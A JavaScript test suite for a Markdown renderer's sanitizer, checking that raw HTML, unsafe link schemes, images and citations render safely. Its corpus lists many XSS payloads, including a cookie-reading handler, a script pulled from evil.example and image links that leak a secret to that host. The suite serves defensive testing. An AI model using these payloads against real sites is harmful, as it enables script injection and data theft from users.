import { test } from 'node:test';
import assert from 'node:assert/strict';
import { installDom } from './dom.js';
import { renderMarkdown, safeUrl } from '../src/app/markdown.js';

const dom = installDom();
const { document } = dom.window;

const ALLOWED = new Set(['P', 'BR', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A']);
const ALLOWED_ATTRS = new Set(['href', 'rel', 'target', 'class']);

function render(md, opts) {
  const box = document.createElement('div');
  box.appendChild(renderMarkdown(md, { doc: document, ...opts }));
  return box;
}

/** Asserts the rendered tree holds only allowed elements, attributes and link targets. */
function assertSafe(box, md) {
  for (const el of box.querySelectorAll('*')) {
    assert.ok(ALLOWED.has(el.tagName), `<${el.tagName}> from ${JSON.stringify(md)}`);
    for (const a of el.attributes) assert.ok(ALLOWED_ATTRS.has(a.name), `attribute ${a.name} from ${JSON.stringify(md)}`);
    if (el.tagName === 'A') {
      assert.match(el.getAttribute('href'), /^(https?:\/\/|mailto:)/, `href from ${JSON.stringify(md)}`);
      assert.equal(el.getAttribute('rel'), 'noopener noreferrer');
      assert.equal(el.getAttribute('target'), '_blank');
    } else assert.ok(!el.hasAttribute('href'));
  }
}

const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=10 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '"><img src=x onerror=alert(document.cookie)>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;&#x61;vascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](%6A%61vascript:alert(1))',
  '[click](\u0000javascript:alert(1))',
  '[click](\u200bjavascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](VBScript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](DATA:text/html,<script>alert(1)</script>)',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/x)',
  '[click](/relative)',
  '[x](https://ok.example "title" onclick="alert(1)")',
  '[a](https://ok.example/?q=<script>) and **[b](javascript:alert(1))**',
  '<javascript:alert(1)>',
  '<https://ok.example/"onmouseover="alert(1)>',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/a.png)](https://evil.example/?q=secret)',
  '![alt *text*](data:image/png;base64,AAAA)',
  '<img src="https://evil.example/?q=secret">',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '* <b onmouseover=alert(1)>list</b>\n1. <i>n</i>',
  '# <h1 onclick=alert(1)>',
  '**<u>bold</u>** _<em onfocus=alert(1) autofocus>x</em>_',
  '[[[[[[[[[[x](javascript:1)](javascript:2)](javascript:3)]]]]]]',
  '*'.repeat(500) + 'x' + '_'.repeat(500),
  '[' .repeat(2000) + '](' .repeat(2000),
];

test('the XSS corpus renders only allowed elements, attributes and links', () => {
  for (const md of CORPUS) {
    const box = render(md);
    assertSafe(box, md);
    const cited = render(md, { cite: () => null });
    assertSafe(cited, md);
  }
});

test('raw HTML is shown as text, never parsed', () => {
  const box = render('<script>alert(1)</script> and <img src=x onerror=alert(1)>');
  assert.equal(box.querySelectorAll('script,img').length, 0);
  assert.equal(box.textContent, '<script>alert(1)</script> and <img src=x onerror=alert(1)>');
});

test('an image is its alt text only, so nothing is fetched', () => {
  const box = render('see ![the secret](https://evil.example/?q=secret) here');
  assert.equal(box.textContent, 'see the secret here');
  assert.equal(box.querySelectorAll('a,img').length, 0);
  assert.ok(!box.innerHTML.includes('evil.example'));
});

test('unsafe links stay text', () => {
  for (const md of ['[click](javascript:alert(1))', '[click](JaVaScRiPt:alert(1))', '[click](&#106;avascript:alert(1))', '[click](data:text/html,x)', '[click](vbscript:x)']) {
    const box = render(md);
    assert.equal(box.querySelectorAll('a').length, 0, md);
    assert.equal(box.textContent, 'click', md);
  }
});

test('safeUrl allows only absolute http(s) and mailto', () => {
  assert.equal(safeUrl('https://example.com/a?b#c'), 'https://example.com/a?b#c');
  assert.equal(safeUrl('HTTP://Example.com'), 'http://example.com/');
  assert.equal(safeUrl('mailto:help@example.com'), 'mailto:help@example.com');
  for (const bad of ['javascript:alert(1)', ' JAVASCRIPT:x', 'java\tscript:x', 'data:text/html,x', 'vbscript:x', '/relative', '//evil.example', 'ftp://x', '', null]) {
    assert.equal(safeUrl(bad), null, String(bad));
  }
});

test('renders the supported Markdown', () => {
  const md = 'Hello **bold** and *it* and `code`\nnext line\n\n- one\n- two [link](https://example.com/x)\n\n1. first\n2. second\n\n```js\nlet a = "<b>";\n```\n\n## Heading\n\nsnake_case_name stays';
  const box = render(md);
  assertSafe(box, md);
  const html = box.innerHTML;
  assert.match(html, /<p>Hello <strong>bold<\/strong> and <em>it<\/em> and <code>code<\/code><br>next line<\/p>/);
  assert.match(html, /<ul><li>one<\/li><li>two <a href="https:\/\/example.com\/x" rel="noopener noreferrer" target="_blank">link<\/a><\/li><\/ul>/);
  assert.match(html, /<ol><li>first<\/li><li>second<\/li><\/ol>/);
  assert.match(html, /<pre><code>let a = "&lt;b&gt;";<\/code><\/pre>/);
  assert.match(html, /<p><strong>Heading<\/strong><\/p>/);
  assert.match(html, /<p>snake_case_name stays<\/p>/);
});

test('citations become the nodes the callback makes; unknown ones stay text', () => {
  const box = render('As documented [1][2] and [9].', {
    cite: (n) => {
      if (n > 2) return null;
      const b = document.createElement('button');
      b.className = 'cite';
      b.textContent = String(n);
      return b;
    },
  });
  assert.equal(box.querySelectorAll('button.cite').length, 2);
  assert.equal(box.textContent, 'As documented 12 and [9].');
});

test('autolinks, escapes, and half-written Markdown while streaming', () => {
  let box = render('<https://example.com/a> and \\*not italic\\* and \\[1\\]');
  assert.equal(box.querySelector('a').getAttribute('href'), 'https://example.com/a');
  assert.equal(box.textContent, 'https://example.com/a and *not italic* and [1]');
  box = render('Half **bold and `code and [link](https://exa');
  assertSafe(box, 'partial');
  assert.equal(box.textContent, 'Half **bold and `code and [link](https://exa');
  box = render('**[bold link](https://example.com)**');
  assert.equal(box.querySelector('strong > a').textContent, 'bold link');
  box = render('[a [nested](https://inner.example) label](https://outer.example)');
  assert.equal(box.querySelectorAll('a').length, 1, 'no link inside a link');
  assertSafe(box, 'nested');
});
